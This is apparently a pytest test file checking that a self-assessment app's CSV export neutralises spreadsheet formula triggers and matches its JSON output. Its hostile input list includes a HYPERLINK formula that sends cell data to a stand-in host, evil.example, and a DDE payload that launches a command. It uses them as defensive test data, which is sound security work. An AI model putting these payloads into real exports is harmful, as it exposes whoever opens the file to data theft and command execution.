"""Exports: JSON shape, and CSV that a spreadsheet cannot run as formulas."""

from __future__ import annotations

import csv
import io

import pytest

from selfassess.exports import neutralise, results_to_csv, results_to_dict, write_csv
from selfassess.services.results import round_results

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


@pytest.mark.parametrize(
    ("cell", "safe"),
    [
        ("=1+1", "'=1+1"),
        ("+41 79 000 00 00", "'+41 79 000 00 00"),
        ("-3 (declined)", "'-3 (declined)"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("\rX", "'\rX"),
        ("plain", "plain"),
        (-0.25, -0.25),  # numbers stay numbers
    ],
)
def test_neutralise(cell, safe):
    assert neutralise(cell) == safe


def test_written_csv_has_no_cell_starting_with_a_trigger():
    hostile = [
        '=HYPERLINK("http://evil.example/?d="&B2,"x")',
        "=cmd|' /C calc'!A0",
        "@SUM(A1:A9)",
        "+1",
        "-1",
        "\t=1",
        "שלום",
        "<b>",
    ]
    text = write_csv(["a"], [[h] for h in hostile])
    cells = [row[0] for row in csv.reader(io.StringIO(text))][1:]
    assert not [c for c in cells if c.startswith(TRIGGERS)]
    assert [c.removeprefix("'") for c in cells] == hostile


def test_results_csv_matches_json(app, worked_round):
    with app.app_context():
        results = round_results(worked_round)
    data = results_to_dict(results)
    rows = list(csv.DictReader(io.StringIO(results_to_csv(results))))
    trust_items = {
        r["key"]: r["value"] for r in rows if r["scope"] == "trust" and r["figure"] == "item"
    }
    assert trust_items == {k: str(v) for k, v in data["scores"]["trust"]["items"].items()}
    gaps = {r["key"]: r["value"] for r in rows if r["figure"] == "gap"}
    assert gaps["i2"] == "-0.1"  # numbers are written as numbers, not guarded
    assert data["items"]["i2"]["gap"] == -0.1
